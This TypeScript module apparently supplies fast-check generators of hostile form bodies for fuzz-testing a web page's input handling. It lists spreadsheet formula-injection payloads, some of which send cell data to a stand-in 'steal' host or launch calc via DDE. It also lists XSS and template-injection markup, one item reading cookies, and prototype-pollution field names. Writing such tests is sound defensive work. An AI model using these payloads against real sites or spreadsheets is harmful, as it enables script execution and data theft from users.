/** fast-check arbitraries for hostile form submissions. */
import fc from 'fast-check';

/** Strings a spreadsheet would run as formulas if a CSV export wrote them unchanged. */
export const FORMULAS = [
  '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for your refund")',
  '=1+2',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"!A0")',
  '-',
  '@',
];

/** Markup and template syntax that would run or render if a page printed it unescaped. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '"><script>alert(document.cookie)</script>',
  "'><img src=x onerror=alert(1)>",
  '<svg/onload=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<a href="javascript:alert(1)">Continue</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<style>body{display:none}</style>',
  '{{ 7 * 7 }}{% raw %}${7*7}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

const controlCharacter = fc.integer({ min: 0, max: 0x9f }).filter((code) => code < 0x20 || code >= 0x7f).map((code) => String.fromCharCode(code));

/** One hostile string. `valid` are values that the page accepts, so that some posts get through. */
export function hostileString(valid: readonly string[]): fc.Arbitrary<string> {
  const arbitraries: fc.Arbitrary<string>[] = [
    fc.string({ maxLength: 40 }),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({ unit: controlCharacter, minLength: 1, maxLength: 10 }),
    fc.constantFrom(...FORMULAS),
    fc.constantFrom(...MARKUP),
    fc.tuple(fc.constantFrom(...MARKUP), fc.constantFrom(...FORMULAS)).map(([markup, formula]) => formula + markup),
    fc.tuple(fc.constantFrom('A', '<b>x</b>', 'é', '\u0000'), fc.integer({ min: 200, max: 12_000 })).map(([unit, count]) => unit.repeat(count)),
  ];
  if (valid.length > 0) arbitraries.push(fc.constantFrom(...valid));
  return fc.oneof(...arbitraries);
}

/** A value for one form name: usually a string, sometimes the name repeated (an array). */
export function hostileValue(valid: readonly string[]): fc.Arbitrary<string | string[]> {
  const single = hostileString(valid);
  return fc.oneof({ weight: 4, arbitrary: single }, { weight: 1, arbitrary: fc.array(single, { minLength: 2, maxLength: 4 }) });
}

/** Names that could reach object internals or session fields if the server copied bodies blindly. */
export const DANGEROUS_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'answers', 'progress', 'route', 'done', 'runId', 'submitted', 'cookie', 'csrfToken', 'hasOwnProperty'];

/**
 * A form body as name and value pairs, in order, so that names may repeat:
 * the page's own inputs, other pages' inputs, dangerous names and random names.
 */
export function hostileBody(
  pageInputs: readonly string[],
  otherInputs: readonly string[],
  valid: readonly string[],
): fc.Arbitrary<Array<[string, string | string[]]>> {
  const names: fc.Arbitrary<string>[] = [fc.constantFrom(...DANGEROUS_NAMES), fc.string({ minLength: 1, maxLength: 20 })];
  if (pageInputs.length > 0) names.unshift(fc.constantFrom(...pageInputs), fc.constantFrom(...pageInputs));
  if (otherInputs.length > 0) names.push(fc.constantFrom(...otherInputs));
  return fc.array(fc.tuple(fc.oneof(...names), hostileValue(valid)), { maxLength: 8 });
}

/** Encodes pairs as application/x-www-form-urlencoded, arrays as repeated names. */
export function encodeForm(pairs: ReadonlyArray<readonly [string, string | string[]]>): string {
  const form = new URLSearchParams();
  for (const [name, value] of pairs) {
    for (const item of Array.isArray(value) ? value : [value]) form.append(name, item);
  }
  return form.toString();
}
